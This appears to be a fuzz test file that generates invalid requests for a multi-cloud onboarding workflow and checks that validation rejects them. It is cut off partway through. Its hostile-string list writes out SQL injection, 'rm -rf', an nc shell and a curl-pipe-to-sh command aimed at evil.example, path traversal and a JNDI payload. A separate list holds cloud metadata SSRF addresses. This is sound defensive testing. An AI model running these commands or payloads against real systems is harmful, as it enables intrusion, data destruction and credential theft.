/**
 * The generated bad-input suite: more than 500 invalid requests, generated with fast-check from a fixed seed, every
 * one rejected by ValidateRequest with field-level messages, and nothing created anywhere.
 *
 * Families (each request is the valid "every part" BASE request with ONE thing broken, so the expected field is
 * known): oversized requests (over 32 KiB in total) and oversized fields (one string over its limit); wrong types
 * (number for string, array for object, null, booleans, ..., at every level and at the root); unknown keys at every
 * level (including `__proto__`, empty, unicode and control-character keys); hostile strings (SQL, shell, path
 * traversal, NUL and control characters, very long unicode, RTL overrides, emoji, zero-width characters, homoglyph
 * tenant ids, JSON in strings); private addresses in the MinIO URL (loopback, link-local, cloud metadata, http);
 * invalid cross-field combinations.
 *
 * How it runs:
 * - EVERY case through the exact validation ValidateRequest applies (`planRequest`, lambdas/domain/plan.ts: the
 *   size first, then the schema, the Azure gateway rule and the backup endpoint rule, the latter as a deployed stack
 *   applies it), with its structured issues checked: the expected path, a non-empty
 *   path (or the root for the size rule and root-level problems) and a message, printable ASCII only (well under a
 *   second for all of them);
 * - a seeded, stratified sample of SAMPLE_SIZE (40) cases, every runnable family in proportion, through the
 *   synthesized state machine on this suite's own sandbox, one after the other; `BAD_INPUT_FULL=1` runs every case
 *   that can run locally (all but the loopback addresses and the null request): FAILED with
 *   RequestValidationError and the same message as the offline validation, no state after ValidateRequest's failure
 *   path (no AcquireTenant), one failure event naming the tenant id (or null); and after the batch the
 *   sandbox inventory (every account, the tenant registry's items included) and Palette's lists are unchanged.
 *   Measured on 2 cores: the execution itself takes under 10 ms, but each local run costs 0.1 s (runner at the
 *   previous commit) to 0.5-0.8 s (runner with the handlers under their synthesized roles) of preparation, so the
 *   full set takes 1 to 4+ minutes: too slow for every CI run, hence the sample (about a minute at most).
 *
 * Private addresses are rejected by lambdas/domain/endpoints.ts (checked offline here as a deployed stack applies
 * it). The sandbox is synthesized with `allowInsecureEndpoints`, which allows http and loopback only (the local
 * MinIO stand-in is http on 127.0.0.1); metadata, link-local and unspecified addresses stay refused there too, so
 * those cases also run through the state machine (compared with the same rule under the sandbox's flag); only the
 * loopback ones are offline-only.
 */
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { MAX_ISSUES, planRequest, requestSizeBytes } from '../../lambdas/domain/plan';
import { MAX_REQUEST_BYTES } from '../../lambdas/domain/request';
import { RequestValidationError } from '../../lambdas/shared/errors';
import { PaletteClient } from '../../lambdas/services/palette';
import { loadWorkflow, runStateMachine, type LocalRunResult, type LocalWorkflow } from '../../local/runner';
import { startLocalSandbox, type RunningLocalSandbox } from '../../local/sandbox';

const SEED = 20_250_611;
/** BAD_INPUT_FULL=1: every runnable case through the state machine; otherwise a seeded, stratified sample. */
const FULL = process.env.BAD_INPUT_FULL === '1';
const SAMPLE_SIZE = 40;

// ---- the valid base request and its fields --------------------------------------------------------------------

const TENANT = 'fuzz';
const secret = (name: string) => `arn:aws:secretsmanager:us-east-1:000000000000:secret:${name}`;
const credentials = (name: string, tenant = TENANT) => secret(`palette-onboarding-credentials/${tenant}/${name}`);
const PUBLIC_KEY = `ssh-ed25519 ${Buffer.concat([Buffer.from([0, 0, 0, 11]), Buffer.from('ssh-ed25519'), Buffer.alloc(36, 7)]).toString('base64')} ops@fuzz`;
const PEM = `-----BEGIN CERTIFICATE-----\n${Buffer.alloc(96, 3).toString('base64')}\n-----END CERTIFICATE-----\n`;

/** Every section of the request, every field given: valid (checked below), in a deployed stack too. */
function baseRequest(): Record<string, unknown> {
  return {
    tenantId: TENANT,
    palette: { apiKeySecretArn: secret('palette-onboarding/palette-api-key'), projectUid: '0123456789abcdef01234567' },
    aws: {
      accountId: '616161616161',
      region: 'us-east-1',
      partition: 'aws',
      credentialMode: 'static',
      executionRoleName: 'OrganizationAccountAccessRole',
      bucket: {
        name: 'fuzz-velero-bucket',
        kmsKeyArn: 'arn:aws:kms:us-east-1:616161616161:key/0f8e5c2a-1d3b-4a5c-9e7f-0123456789ab',
        versioning: true,
        lifecycle: { noncurrentVersionExpirationDays: 30, abortIncompleteMultipartUploadDays: 7 },
        adopt: false,
      },
      backupPolicy: { adopt: false },
      principal: { adopt: false },
      rotateAccessKey: false,
    },
    register: { cloudAccount: { enabled: true, name: 'fuzz-aws', adopt: false }, backupLocation: { name: 'fuzz-s3', isDefault: false, adopt: false } },
    options: { readinessTimeoutSeconds: 120 },
    azure: {
      cloudAccount: {
        name: 'fuzz-azure',
        credentialsSecretArn: credentials('azure-app'),
        cloud: 'AzurePublicCloud',
        tenantName: 'Fuzz Corp',
        disablePropertiesRequest: false,
        privateCloudGatewayUid: 'pcg-0123456789abcdef',
        adopt: false,
      },
    },
    sshKey: { name: 'fuzz-ssh', publicKey: PUBLIC_KEY, adopt: false },
    apiKey: { name: 'fuzz-automation', description: 'Fuzz CI automation', ownerUserUid: 'u-0123456789abcdef', expiry: '2030-01-31', adopt: false },
    backupLocations: {
      gcp: { name: 'fuzz-gcs', bucket: 'fuzz-velero-gcs', projectId: 'fuzz-prod-01', credentialsSecretArn: credentials('gcp-sa-key'), isDefault: false, adopt: false },
      minio: {
        name: 'fuzz-minio',
        bucket: 'fuzz-velero-minio',
        region: 'us-east-1',
        s3Url: 'https://minio.example.com:9000',
        forcePathStyle: true,
        credentialsSecretArn: credentials('minio-keys'),
        caCert: PEM,
        isDefault: false,
        adopt: false,
      },
      azure: {
        name: 'fuzz-azure-blob',
        container: 'velero',
        storageAccount: 'fuzzbackups',
        sku: 'Standard_LRS',
        resourceGroup: 'rg-fuzz-backup',
        subscriptionId: '0f8e5c2a-1d3b-4a5c-9e7f-0123456789ab',
        credentialsSecretArn: credentials('azure-blob'),
        cloud: 'AzurePublicCloud',
        isDefault: false,
        adopt: false,
      },
    },
  };
}

type Path = readonly string[];
type StringKind = 'id' | 'text' | 'ssh' | 'pem' | 'url';
interface StringField {
  path: Path;
  kind: StringKind;
  max: number;
  /** The limit is checked on its own (message "must be at most N characters"); else the format bounds it (a date). */
  lengthMessage: boolean;
  /** Unicode letters are allowed (Azure resource groups): homoglyphs are no attack there. */
  unicodeLetters?: boolean;
  /** A value of the field's shape and `length` characters (to go over the limit with an otherwise valid value). */
  long(length: number): string;
}

const repeatTo = (head: string, length: number, fill = 'a', tail = '') => head + fill.repeat(Math.max(0, length - head.length - tail.length)) + tail;
const arnOf = (head: string) => (n: number) => repeatTo(head, n, 'k');
const id = (path: string, max: number, long: (n: number) => string, lengthMessage = true, extra: Partial<StringField> = {}): StringField => ({
  path: path.split('.'),
  kind: 'id',
  max,
  lengthMessage,
  long,
  ...extra,
});
const plain = (n: number) => 'a'.repeat(n);

const STRING_FIELDS: StringField[] = [
  id('tenantId', 32, plain),
  id('palette.apiKeySecretArn', 600, arnOf(secret('palette-onboarding/'))),
  id('palette.projectUid', 64, plain),
  id('aws.accountId', 12, (n) => '6'.repeat(n)),
  id('aws.region', 32, (n) => repeatTo('us-', n, 'e', '-1')),
  id('aws.executionRoleName', 64, plain),
  id('aws.bucket.name', 63, plain),
  id('aws.bucket.kmsKeyArn', 320, arnOf('arn:aws:kms:us-east-1:616161616161:alias/')),
  id('register.cloudAccount.name', 64, plain),
  id('register.backupLocation.name', 64, plain),
  id('azure.cloudAccount.name', 63, plain),
  id('azure.cloudAccount.credentialsSecretArn', 600, arnOf(credentials(''))),
  { path: ['azure', 'cloudAccount', 'tenantName'], kind: 'text', max: 128, lengthMessage: true, long: (n) => repeatTo('Fuzz Corp ', n, 'é') },
  id('azure.cloudAccount.privateCloudGatewayUid', 64, plain),
  id('sshKey.name', 63, plain),
  { path: ['sshKey', 'publicKey'], kind: 'ssh', max: 8192, lengthMessage: true, long: (n) => repeatTo(`${PUBLIC_KEY} `, n, 'c') },
  id('apiKey.name', 61, plain),
  { path: ['apiKey', 'description'], kind: 'text', max: 256, lengthMessage: true, long: (n) => repeatTo('CI ', n, 'd') },
  id('apiKey.ownerUserUid', 64, plain),
  id('apiKey.expiry', 10, (n) => repeatTo('2030-01-31', n, '1'), false),
  id('backupLocations.gcp.name', 63, plain),
  id('backupLocations.gcp.bucket', 222, plain),
  id('backupLocations.gcp.projectId', 30, plain),
  id('backupLocations.gcp.credentialsSecretArn', 600, arnOf(credentials(''))),
  id('backupLocations.minio.name', 63, plain),
  id('backupLocations.minio.bucket', 63, plain),
  id('backupLocations.minio.region', 64, plain),
  { path: ['backupLocations', 'minio', 's3Url'], kind: 'url', max: 2048, lengthMessage: true, long: (n) => repeatTo('https://minio.example.com/', n, 'p') },
  id('backupLocations.minio.credentialsSecretArn', 600, arnOf(credentials(''))),
  {
    path: ['backupLocations', 'minio', 'caCert'],
    kind: 'pem',
    max: 16384,
    lengthMessage: true,
    long: (n) => repeatTo('-----BEGIN CERTIFICATE-----\n', n, 'A', '\n-----END CERTIFICATE-----\n'),
  },
  id('backupLocations.azure.name', 63, plain),
  id('backupLocations.azure.container', 63, plain),
  id('backupLocations.azure.storageAccount', 24, plain),
  id('backupLocations.azure.sku', 32, plain),
  id('backupLocations.azure.resourceGroup', 90, plain, true, { unicodeLetters: true }),
  id('backupLocations.azure.subscriptionId', 36, plain),
  id('backupLocations.azure.credentialsSecretArn', 600, arnOf(credentials(''))),
];

const ENUM_FIELDS = ['aws.partition', 'aws.credentialMode', 'azure.cloudAccount.cloud', 'backupLocations.azure.cloud'].map((p) => p.split('.'));
const NUMBER_FIELDS = ['aws.bucket.lifecycle.noncurrentVersionExpirationDays', 'aws.bucket.lifecycle.abortIncompleteMultipartUploadDays', 'options.readinessTimeoutSeconds'].map((p) =>
  p.split('.'),
);
const BOOLEAN_FIELDS = [
  'aws.bucket.versioning',
  'aws.bucket.adopt',
  'aws.backupPolicy.adopt',
  'aws.principal.adopt',
  'aws.rotateAccessKey',
  'register.cloudAccount.enabled',
  'register.cloudAccount.adopt',
  'register.backupLocation.isDefault',
  'register.backupLocation.adopt',
  'azure.cloudAccount.disablePropertiesRequest',
  'azure.cloudAccount.adopt',
  'sshKey.adopt',
  'apiKey.adopt',
  'backupLocations.gcp.isDefault',
  'backupLocations.gcp.adopt',
  'backupLocations.minio.forcePathStyle',
  'backupLocations.minio.isDefault',
  'backupLocations.minio.adopt',
  'backupLocations.azure.isDefault',
  'backupLocations.azure.adopt',
].map((p) => p.split('.'));
const OBJECT_FIELDS = [
  'palette',
  'aws',
  'aws.bucket',
  'aws.bucket.lifecycle',
  'aws.backupPolicy',
  'aws.principal',
  'register',
  'register.cloudAccount',
  'register.backupLocation',
  'options',
  'azure',
  'azure.cloudAccount',
  'sshKey',
  'apiKey',
  'backupLocations',
  'backupLocations.gcp',
  'backupLocations.minio',
  'backupLocations.azure',
].map((p) => p.split('.'));

// ---- building cases -------------------------------------------------------------------------------------------

interface Case {
  family: string;
  label: string;
  request: unknown;
  /** The issue path expected ('' = the request itself, shown as "(root)"). */
  path: string;
  message?: RegExp;
  /** Rejected offline only: why it cannot (yet) run through the state machine. */
  offlineOnly?: string;
}

const dotted = (path: Path) => path.join('.');
const clone = () => structuredClone(baseRequest());
function parentOf(root: Record<string, unknown>, path: Path): Record<string, unknown> {
  let node = root;
  for (const key of path.slice(0, -1)) node = node[key] as Record<string, unknown>;
  return node;
}
/** The base request with the value at `path` replaced (an own property even for keys such as `__proto__`). */
function withValue(path: Path, value: unknown, base = clone()): Record<string, unknown> {
  Object.defineProperty(parentOf(base, path), path[path.length - 1] as string, { value, enumerable: true, writable: true, configurable: true });
  return base;
}
const getAt = (root: Record<string, unknown>, path: Path): unknown => path.reduce<unknown>((n, k) => (n as Record<string, unknown>)[k], root);

const sample = <T>(arb: fc.Arbitrary<T>, numRuns: number, salt: number): T[] => fc.sample(arb, { seed: SEED + salt, numRuns });

/** Over 32 KiB in total: one root issue naming the size and the limit (nothing else is even looked at). */
function oversizedRequests(n: number): Case[] {
  const how = fc.constantFrom('description', 'root key', 'many keys', 'ca bundle', 'unicode');
  return sample(fc.tuple(how, fc.integer({ min: MAX_REQUEST_BYTES + 1, max: 200_000 })), n, 1).map(([kind, target]) => {
    const r = clone();
    const minio = (r.backupLocations as Record<string, Record<string, unknown>>).minio as Record<string, unknown>;
    // Each field is emptied first, then filled with as many (ASCII) characters as the request lacks.
    const fill = (set: (v: string) => void, unit = 'x', unitBytes = 1) => {
      set('');
      set(unit.repeat(Math.ceil((target - requestSizeBytes(r)) / unitBytes)));
    };
    if (kind === 'description') fill((v) => ((r.apiKey as Record<string, unknown>).description = v));
    else if (kind === 'root key') fill((v) => (r.padding = v), 'p');
    else if (kind === 'ca bundle') fill((v) => (minio.caCert = `${PEM}${v}`), 'A');
    else if (kind === 'unicode') fill((v) => (r.tenantId = v), '🚀', 4);
    else {
      const aws = r.aws as Record<string, unknown>;
      let size = requestSizeBytes(r);
      for (let i = 0; size < target; i++) {
        aws[`extra${i}`] = i;
        size += Buffer.byteLength(`,"extra${i}":${i}`);
      }
    }
    return { family: 'oversized request', label: `${kind}, ${requestSizeBytes(r)} bytes`, request: r, path: '', message: /^the request is \d+ bytes of JSON; at most 32768 bytes \(32 KiB\) are allowed$/ };
  });
}

/** One string one character (or more) over its limit, the rest valid and the request under 32 KiB. */
function oversizedFields(n: number): Case[] {
  return sample(fc.tuple(fc.constantFrom(...STRING_FIELDS), fc.nat({ max: 2000 })), n, 2).map(([field, over]) => {
    const length = field.max + 1 + over;
    const request = withValue(field.path, field.long(length));
    return {
      family: 'oversized field',
      label: `${dotted(field.path)} of ${length} characters (max ${field.max})`,
      request,
      path: dotted(field.path),
      ...(field.lengthMessage ? { message: new RegExp(`must be at most ${field.max} characters`) } : {}),
    };
  });
}

/** A value of the wrong JSON type for the field (strings, numbers, booleans, objects) or for the request itself. */
function wrongTypes(n: number): Case[] {
  const arrayOr = (v: unknown) => [v];
  const forString = fc.constantFrom<unknown>(42, -1.5, true, false, null, ['a'], {}, { value: 'x' }, arrayOr('fuzz'));
  const forNumber = fc.constantFrom<unknown>('30', '1e3', true, null, [30], { days: 30 }, 1.5, -7, 0, 1e9);
  const forBoolean = fc.constantFrom<unknown>('true', 'false', 1, 0, null, [true], {}, 'yes');
  const forObject = fc.constantFrom<unknown>('x', 7, true, null, [], [{}], 'null');
  const leaf = fc.oneof(
    fc.tuple(fc.constantFrom(...STRING_FIELDS.map((f) => f.path), ...ENUM_FIELDS), forString),
    fc.tuple(fc.constantFrom(...NUMBER_FIELDS), forNumber),
    fc.tuple(fc.constantFrom(...BOOLEAN_FIELDS), forBoolean),
    fc.tuple(fc.constantFrom(...OBJECT_FIELDS), forObject),
  );
  const cases = sample(leaf, n - 5, 3).map(([path, value]): Case => ({
    family: 'wrong type',
    label: `${dotted(path)} = ${JSON.stringify(value)}`,
    request: withValue(path, value),
    path: dotted(path),
  }));
  // The request itself not an object (null cannot start a local execution: aws-local-stepfunctions refuses `$` = null).
  const roots: [unknown, string?][] = [[[baseRequest()]], ['{"tenantId":"fuzz"}'], [42], [true], [null, 'the local Step Functions library cannot run an execution whose input is null']];
  return [
    ...cases,
    ...roots.map(([request, offlineOnly]): Case => ({
      family: 'wrong type',
      label: `the request is ${JSON.stringify(request)?.slice(0, 40)}`,
      request,
      path: '',
      message: /^Invalid input: expected object, received/,
      ...(offlineOnly ? { offlineOnly } : {}),
    })),
  ];
}

/** An extra key in any object, the request itself included; its issue is on the object, naming the key. */
function unknownKeys(n: number): Case[] {
  const keys = fc.oneof(
    fc.constantFrom('__proto__', 'constructor', 'prototype', 'toString', 'tenantID', 'TenantId', 'credentialmode', 'adopt ', '', '$where', '../x', 'a\u0000b', '\u202Eevil', '😀', 'a.b', 'x'.repeat(300)),
    fc.string({ minLength: 1, maxLength: 24 }),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 12 }),
  );
  const where = fc.constantFrom<Path>([], ...OBJECT_FIELDS);
  return sample(fc.tuple(where, keys, fc.jsonValue({ maxDepth: 2 })), n * 3, 4)
    .filter(([path, key]) => {
      const target = path.length === 0 ? baseRequest() : (getAt(baseRequest(), path) as Record<string, unknown>);
      return !Object.prototype.hasOwnProperty.call(target, key);
    })
    .slice(0, n)
    .map(([path, key, value]) => ({
      family: 'unknown key',
      label: `${dotted(path) || '(root)'} + ${JSON.stringify(key).slice(0, 40)}`,
      request: withValue([...path, key], value ?? 0),
      path: dotted(path),
      message: /^Unrecognized keys?: "/,
    }));
}

/** Payloads that no identifier accepts (each has a character outside every identifier charset). */
const HOSTILE_IDENTIFIERS: string[] = [
  "'; DROP TABLE tenants; --",
  "1' OR '1'='1",
  '$(rm -rf /)',
  '`id`',
  'a; cat /etc/passwd',
  '| nc evil.example 4444',
  '&& curl -s evil.example/x.sh | sh',
  '../../etc/passwd',
  '..\\..\\windows\\system32',
  '%2e%2e%2f%2e%2e%2f',
  'fuzz\u0000',
  'fu\u0007zz',
  'fuzz\r\nX-Injected: 1',
  '\u001b[31mred',
  'tab\there',
  'fuzz\u202Egnp.exe',
  '\u2066admin\u2069',
  'fuzz😀',
  '🚀🚀🚀',
  '👨‍👩‍👧',
  'fu\u200Bzz',
  '\uFEFFfuzz',
  '{"tenantId":"evil"}',
  '["a","b"]',
  '<script>alert(1)</script>',
  '%s%s%s%n',
  '${jndi:ldap://evil.example/a}',
];
/** Look-alikes of a valid identifier: rejected wherever the charset is ASCII (not by resource group names). */
const HOMOGLYPHS = ['fuzz'.replace('u', '\u057D'), 'fuzz'.replace('z', '\u1D22'), '\uFF46\uFF55\uFF5A\uFF5A', 'fuzz-\u0430ws', 'ｆｕｚｚ-aws'];
/** Payloads that even free text refuses: control, format (bidi, zero-width, BOM), line-break characters. */
const HOSTILE_TEXT: string[] = [
  'Fuzz\u0000Corp',
  'Fuzz Corp\r\nX-Injected: 1',
  'Fuzz \u202EprpC',
  'Fu\u200Bzz',
  '\uFEFFFuzz',
  'line\u2028break',
  'bell\u0007',
  '\u001b[2J',
  'family 👨‍👩‍👧',
  "'; DROP TABLE tenants; --\u0000",
];

function hostileStrings(n: number): Case[] {
  const longUnicode = fc.tuple(fc.constantFrom('é', '𝕒', 'ж', '中', '🚀'), fc.integer({ min: 300, max: 3000 })).map(([c, k]) => c.repeat(k));
  const anyField = fc.tuple(fc.constantFrom(...STRING_FIELDS), fc.oneof(fc.constantFrom(...HOSTILE_IDENTIFIERS), fc.constantFrom(...HOMOGLYPHS), longUnicode));
  return sample(anyField, n, 5).map(([field, payload0]) => {
    let payload = payload0;
    // Free text takes ordinary punctuation and letters (that is what it is for): only what text refuses.
    if (field.kind === 'text') payload = HOSTILE_TEXT[payload0.length % HOSTILE_TEXT.length] as string;
    // Unicode letters are valid resource group names: use a refused payload instead of a pure look-alike.
    else if (field.unicodeLetters && /^[\p{L}\p{N}_().-]*$/u.test(payload) && payload.length <= field.max) payload = HOSTILE_IDENTIFIERS[payload.length % HOSTILE_IDENTIFIERS.length] as string;
    return {
      family: 'hostile string',
      label: `${dotted(field.path)} = ${JSON.stringify(payload).slice(0, 50)}`,
      request: withValue(field.path, payload),
      path: dotted(field.path),
    };
  });
}

/** MinIO URLs the workflow must never send keys to (deployed rules: https only, no loopback/link-local/metadata). */
function privateAddresses(n: number): Case[] {
  const hosts = fc.constantFrom(
    'http://minio.example.com',
    'https://169.254.169.254',
    'https://169.254.170.2',
    'https://169.254.1.1',
    'https://[fd00:ec2::254]',
    'https://[fe80::1]',
    'https://[::ffff:169.254.169.254]',
    'https://0xa9.0xfe.0xa9.0xfe',
    'https://2852039166',
    'https://metadata.google.internal',
    'https://metadata.azure.com',
    'https://100.100.100.200',
    'https://127.0.0.1',
    'https://127.1',
    'https://[::1]',
    'https://localhost',
    'https://0.0.0.0',
    'http://169.254.169.254',
  );
  const ports = fc.constantFrom('', ':80', ':443', ':9000');
  const paths = fc.constantFrom('', '/', '/latest/meta-data/iam/security-credentials/', '/computeMetadata/v1/');
  return sample(fc.tuple(hosts, ports, paths), n, 6).map(([host, port, path]) => {
    const url = `${host}${port}${path}`;
    return {
      family: 'private address',
      label: url,
      request: withValue(['backupLocations', 'minio', 's3Url'], url),
      path: 'backupLocations.minio.s3Url',
      message: /^must (be an https URL|not point at)/,
      ...(/^https?:\/\/(127\.|\[::1\]|localhost)/.test(url) ? { offlineOnly: 'the sandbox allows loopback endpoints (its MinIO stand-in is 127.0.0.1)' } : {}),
    };
  });
}

/** Fields valid one by one, invalid together. */
function crossField(n: number): Case[] {
  const otherTenant = fc.stringMatching(/^[a-z][a-z0-9-]{1,20}[a-z0-9]$/).filter((t) => t !== TENANT);
  const secretPath = fc.constantFrom<Path>(
    ['azure', 'cloudAccount', 'credentialsSecretArn'],
    ['backupLocations', 'gcp', 'credentialsSecretArn'],
    ['backupLocations', 'minio', 'credentialsSecretArn'],
    ['backupLocations', 'azure', 'credentialsSecretArn'],
  );
  const defaults = fc.subarray(['register.backupLocation', 'backupLocations.gcp', 'backupLocations.minio', 'backupLocations.azure'], { minLength: 2 });
  const template = fc.oneof(
    fc.constantFrom('us-gov-west-1', 'us-gov-east-1').map((region): Case => {
      const r = clone();
      Object.assign(r.aws as object, { region, partition: 'aws', bucket: { name: 'fuzz-velero-bucket' } });
      return { family: 'cross-field', label: `region ${region} in partition aws`, request: r, path: 'aws.region', message: /is not in partition aws/ };
    }),
    fc.constantFrom('us-east-1', 'eu-west-1').map((region): Case => {
      const r = clone();
      Object.assign(r.aws as object, { region, partition: 'aws-us-gov', bucket: { name: 'fuzz-velero-bucket' } });
      return { family: 'cross-field', label: `region ${region} in partition aws-us-gov`, request: r, path: 'aws.region', message: /is not in partition aws-us-gov/ };
    }),
    fc.constant(0).map((): Case => {
      const r = clone();
      Object.assign(r.aws as object, { credentialMode: 'sts', rotateAccessKey: true });
      return { family: 'cross-field', label: 'rotateAccessKey in sts mode', request: r, path: 'aws.rotateAccessKey', message: /only applies to credentialMode "static"/ };
    }),
    fc.constantFrom('arn:aws:kms:eu-west-1:616161616161:alias/backup', 'arn:aws-us-gov:kms:us-east-1:616161616161:alias/backup').map(
      (kms): Case => ({
        family: 'cross-field',
        label: `KMS key ${kms} for a bucket in aws us-east-1`,
        request: withValue(['aws', 'bucket', 'kmsKeyArn'], kms),
        path: 'aws.bucket.kmsKeyArn',
        message: /must be a key in aws us-east-1/,
      }),
    ),
    defaults.map((list): Case => {
      const r = clone();
      for (const p of list) (getAt(r, p.split('.')) as Record<string, unknown>).isDefault = true;
      return { family: 'cross-field', label: `defaults: ${list.join(', ')}`, request: r, path: 'backupLocations', message: /only one backup location may be the default/ };
    }),
    fc.constant(0).map((): Case => ({
      family: 'cross-field',
      label: 'publicKey and generate',
      request: withValue(['sshKey', 'generate'], { bits: 4096 }),
      path: 'sshKey.generate',
      message: /either publicKey or generate/,
    })),
    fc.tuple(secretPath, otherTenant, fc.constantFrom('another tenant', 'written prefix', 'nested name', 'no name')).map(([path, other, kind]): Case => {
      const arn = {
        'another tenant': credentials('azure-app', other),
        'written prefix': secret(`palette-onboarding/${TENANT}/aws-access-key`),
        'nested name': credentials('a/b'),
        'no name': secret(`palette-onboarding-credentials/${TENANT}/`),
      }[kind] as string;
      return {
        family: 'cross-field',
        label: `${dotted(path)}: ${kind}`,
        request: withValue(path, arn),
        path: dotted(path),
        message: /must be a secret named palette-onboarding-credentials\/fuzz\/<name>/,
      };
    }),
    fc.constant(0).map((): Case => {
      // Palette SaaS: an Azure US Government account needs a private cloud gateway (checked by the handler).
      const r = clone();
      const account = (r.azure as Record<string, Record<string, unknown>>).cloudAccount as Record<string, unknown>;
      account.cloud = 'AzureUSGovernmentCloud';
      delete account.privateCloudGatewayUid;
      return { family: 'cross-field', label: 'Azure US Government without a gateway (SaaS)', request: r, path: 'azure.cloudAccount.privateCloudGateway', message: /required/ };
    }),
  );
  return sample(template, n, 7);
}

const CASES: Case[] = [
  ...oversizedRequests(40),
  ...oversizedFields(80),
  ...wrongTypes(110),
  ...unknownKeys(90),
  ...hostileStrings(150),
  ...privateAddresses(40),
  ...crossField(45),
];

// ---- the validation ValidateRequest applies -------------------------------------------------------------------

const PLAN_CONTEXT = {
  homeAccountId: '000000000000',
  deploymentId: 'palette-onboarding',
  defaultApiKeySecretArn: secret('palette-onboarding/palette-api-key'),
  defaultReadinessSeconds: 120,
  executionName: 'fuzz-0123456789ab',
};

/** What ValidateRequest checks before any call (planRequest), on Palette SaaS; a deployed stack by default. */
function validateLikeValidateRequest(raw: unknown, allowInsecureEndpoints = false): void {
  planRequest(raw, { ...PLAN_CONTEXT, selfHosted: false, allowInsecureEndpoints });
}

function rejection(c: Case, allowInsecureEndpoints = false): RequestValidationError {
  try {
    validateLikeValidateRequest(c.request, allowInsecureEndpoints);
  } catch (e) {
    if (e instanceof RequestValidationError) return e;
    throw new Error(`${c.family} / ${c.label}: ${e instanceof Error ? `${e.name}: ${e.message}` : String(e)}`);
  }
  throw new Error(`${c.family} / ${c.label}: accepted`);
}

/** A stratified, seeded sample: every family, in proportion. */
function stateMachineCases(): Case[] {
  const runnable = CASES.filter((c) => !c.offlineOnly);
  if (FULL) return runnable;
  const families = [...new Set(runnable.map((c) => c.family))];
  return families.flatMap((family) => {
    const of = runnable.filter((c) => c.family === family);
    const take = Math.max(3, Math.round((SAMPLE_SIZE * of.length) / runnable.length));
    const picks = fc.sample(fc.shuffledSubarray(of, { minLength: Math.min(take, of.length), maxLength: Math.min(take, of.length) }), { seed: SEED, numRuns: 1 })[0] ?? [];
    return picks;
  });
}

// ---- the suite ------------------------------------------------------------------------------------------------

describe('the generated bad input', () => {
  it('has at least 500 requests in every family, generated from a fixed seed', () => {
    expect(CASES.length).toBeGreaterThanOrEqual(500);
    const counts = Object.fromEntries([...new Set(CASES.map((c) => c.family))].map((f) => [f, CASES.filter((c) => c.family === f).length]));
    console.log(`bad-input: ${CASES.length} requests: ${JSON.stringify(counts)}`);
    expect(Object.keys(counts).sort()).toEqual(['cross-field', 'hostile string', 'oversized field', 'oversized request', 'private address', 'unknown key', 'wrong type']);
    for (const n of Object.values(counts)) expect(n).toBeGreaterThanOrEqual(30);
  });

  it('starts from a valid request (each case breaks one thing)', () => {
    expect(() => validateLikeValidateRequest(baseRequest())).not.toThrow();
    expect(requestSizeBytes(baseRequest())).toBeLessThan(MAX_REQUEST_BYTES / 4);
  });
});

describe('every request through the validation ValidateRequest applies', () => {
  it('rejects each with field-level issues: the expected field, a path and a message, printable ASCII, at most MAX_ISSUES', () => {
    const started = performance.now();
    for (const c of CASES) {
      const e = rejection(c);
      const where = `${c.family} / ${c.label}`;
      expect(e.issues.length, where).toBeGreaterThan(0);
      expect(e.issues.length, where).toBeLessThanOrEqual(MAX_ISSUES);
      for (const issue of e.issues) {
        expect(issue.message.length, where).toBeGreaterThan(0);
        expect(`${issue.path} ${issue.message}`, where).toMatch(/^[\x20-\x7e]*$/);
        // A field path, or the request itself: its size, its type, or an unknown key at the top level.
        if (issue.path === '') expect(issue.message, where).toMatch(/^(the request (is|cannot)|Invalid input: expected object|Unrecognized key)/);
      }
      const expected = e.issues.find((i) => i.path === c.path);
      expect(expected, `${where}: ${JSON.stringify(e.issues)}`).toBeDefined();
      if (c.message) expect(expected?.message, where).toMatch(c.message);
      if (c.family === 'oversized request') {
        expect(e.issues, where).toHaveLength(1);
        expect(e.issues[0]?.message, where).toContain(`the request is ${requestSizeBytes(c.request)} bytes`);
      }
    }
    console.log(`bad-input: ${CASES.length} requests validated offline in ${Math.round(performance.now() - started)} ms`);
  });
});

describe('through the synthesized state machine on the sandbox', () => {
  let sb: RunningLocalSandbox;
  let workflow: LocalWorkflow;
  let palette: PaletteClient;
  const cases = stateMachineCases();
  const runs: { c: Case; run: LocalRunResult }[] = [];
  let before: unknown;
  let elapsedMs = 0;

  const paletteLists = async () => {
    const names = (kind: string, items: { metadata?: { name?: string; uid?: string } }[]) => items.map((i) => `${kind}:${i.metadata?.name}:${i.metadata?.uid}`);
    return [
      ...names('aws', await palette.cloudAccounts.aws.list()),
      ...names('azure', await palette.cloudAccounts.azure.list()),
      ...names('ssh', await palette.sshKeys.list()),
      ...names('apikey', await palette.apiKeys.list()),
      ...names('location', await palette.backupLocations.list()),
    ].sort();
  };
  /** Every account's resources (the registry's table and items included) and every Palette list. */
  const world = async () => ({ aws: sb.aws.inventory(), palette: await paletteLists() });

  beforeAll(async () => {
    workflow = await loadWorkflow();
    sb = await startLocalSandbox({ aws: { port: 0 }, palette: { port: 0 }, env: {} });
    palette = new PaletteClient({ baseUrl: sb.palette.endpoint, auth: { type: 'apiKey', apiKey: sb.palette.apiKey }, rateLimit: false });
    // One run first: the runner creates the registry table and stores the Palette API key secret on its first run.
    await runStateMachine({ tenantId: 'warmup' }, { sandbox: sb, workflow });
    before = await world();
    const started = performance.now();
    for (const c of cases) runs.push({ c, run: await runStateMachine(c.request, { sandbox: sb, workflow }) });
    elapsedMs = performance.now() - started;
    console.log(
      `bad-input: ${cases.length} of ${CASES.length} requests through the state machine in ${Math.round(elapsedMs)} ms (${Math.round(elapsedMs / cases.length)} ms each)${FULL ? '' : ' (sample; BAD_INPUT_FULL=1 runs all)'}`,
    );
  }, 900_000);
  afterAll(async () => {
    await sb?.stop();
  });

  it(`runs a stratified sample of ${SAMPLE_SIZE} (BAD_INPUT_FULL=1: all, at least 500), every family`, () => {
    if (FULL) expect(cases.length).toBeGreaterThanOrEqual(500);
    else expect(Math.abs(cases.length - SAMPLE_SIZE)).toBeLessThanOrEqual(6);
    expect(new Set(cases.map((c) => c.family)).size).toBe(7);
  });

  it('fails each in ValidateRequest with RequestValidationError and the same field-level message as offline', () => {
    for (const { c, run } of runs) {
      const where = `${c.family} / ${c.label}`;
      expect(run.status, where).toBe('FAILED');
      expect(run.error, where).toBe('RequestValidationError');
      // The sandbox is synthesized with allowInsecureEndpoints (http and loopback allowed): the same rule, its flag.
      expect(run.errorMessage, where).toBe(rejection(c, true).message);
